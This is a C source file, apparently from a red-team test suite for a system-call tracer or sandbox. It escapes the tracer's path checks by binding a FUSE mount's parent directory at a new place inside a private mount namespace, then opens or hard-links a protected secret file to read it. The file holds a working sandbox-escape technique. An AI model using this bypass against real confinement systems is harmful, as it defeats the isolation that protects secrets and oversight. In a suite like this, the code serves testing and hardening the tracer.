/* fs_fuse_ns.c: reach a FUSE file system that answers the program otherwise than the tracer
 * (red team 44's server) by a name the tracer's mount table does not give it: in a mount
 * namespace of the program's own, the directory holding the FUSE mount bound with its mounts
 * (MS_BIND | MS_REC) at another place (review 24).
 *
 *   fs_fuse_ns MODE MNT WORK
 *
 * MNT is served by fs_fuse_server (outside the traced tree): "d" is a symlink to the secret's
 * directory when this program looks it up, an empty directory when anyone else does.  The
 * program makes a mount namespace of its own (CLONE_NEWNS; as root) and binds MNT's parent
 * directory, MNT's mount with it, at WORK/alt there (MNT itself, a path on the FUSE mount, is
 * refused as a bind's source).  WORK/alt/BASE lies below no FUSE mount of the tracer's
 * /proc/self/mountinfo, so the tracer took its own answer (WORK/alt/BASE/d/secret.txt: a
 * missing file) for the kernel's.
 *
 *   open   one task: open WORK/alt/BASE/d/secret.txt and read it
 *   link   one task: link WORK/alt/BASE/d/secret.txt to WORK/stolen, then read WORK/stolen
 *   tlink  the same with a second thread alive (link is frozen and re-checked)
 */
#include "attack.h"
#include "fuse_attack.h"

#include <libgen.h>
#include <sched.h>
#include <sys/mount.h>

int main(int argc, char **argv) {
    if (argc != 4)
        usage("fs_fuse_ns open|link|tlink MNT WORK");
    const char *mode = argv[1], *mnt = argv[2], *work = argv[3];
    char alt[4096], path[4096], stolen[4096], for_parent[4096], for_base[4096];
    snprintf(for_parent, sizeof for_parent, "%s", mnt);
    snprintf(for_base, sizeof for_base, "%s", mnt);
    const char *parent = dirname(for_parent), *base = basename(for_base);
    snprintf(alt, sizeof alt, "%s/alt", work);
    snprintf(path, sizeof path, "%s/%s/d/secret.txt", alt, base);
    snprintf(stolen, sizeof stolen, "%s/stolen", work);
    if (unshare(CLONE_NEWNS) != 0)
        skipped("unshare(CLONE_NEWNS): %s", ename(errno));
    if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0)
        blocked("making the mounts private: %s", ename(errno));
    if (mkdir(alt, 0755) != 0 && errno != EEXIST)
        blocked("mkdir %s: %s", alt, ename(errno));
    if (mount(parent, alt, NULL, MS_BIND | MS_REC, NULL) != 0)
        blocked("bind %s at %s: %s", parent, alt, ename(errno));
    if (!strcmp(mode, "tlink"))
        second_thread();
    if (!strcmp(mode, "open"))
        open_secret(path);
    if (!strcmp(mode, "link") || !strcmp(mode, "tlink"))
        link_secret(path, stolen);
    usage("unknown mode");
}
